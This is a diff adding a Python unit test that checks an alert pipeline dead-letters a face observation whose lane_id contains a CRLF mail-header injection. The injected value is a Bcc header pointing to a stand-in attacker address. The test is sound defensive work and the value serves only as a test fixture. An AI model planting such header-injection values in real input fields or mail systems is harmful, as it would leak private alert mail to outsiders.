@@ -79,6 +79,17 @@ def test_a_face_observation_whose_transaction_id_is_a_path_is_dead_lettered():
     assert kinds(step.outputs) == ["invalid_id"] and core.join.early == {}
 
 
+def test_a_face_observation_whose_lane_could_add_a_mail_header_is_dead_lettered():
+    """The lane goes into alerts (an entrance alert's mail Subject) as the store does."""
+    core = make_core()
+    record = face_record(None, trigger="ENTRANCE", offset=7)
+    obs = codec("FaceObservation").decode(record.value)
+    hostile = codec("FaceObservation").encode({**obs, "lane_id": "ENT\r\nBcc: leak@evil.example"})
+    step = core.on_records([record._replace(value=hostile)], NOW)
+    [dl] = dead_letters(step.outputs)
+    assert dl["error_kind"] == "invalid_id" and "lane_id" in dl["reason"] and "evil" not in dl["reason"]
+
+
 def test_an_observation_of_zeros_an_unknown_trigger_or_over_the_size_limit_is_dead_lettered():
     """A body of zero bytes decodes as an observation with empty ids: it must not pass as an entrance."""
     core = make_core()
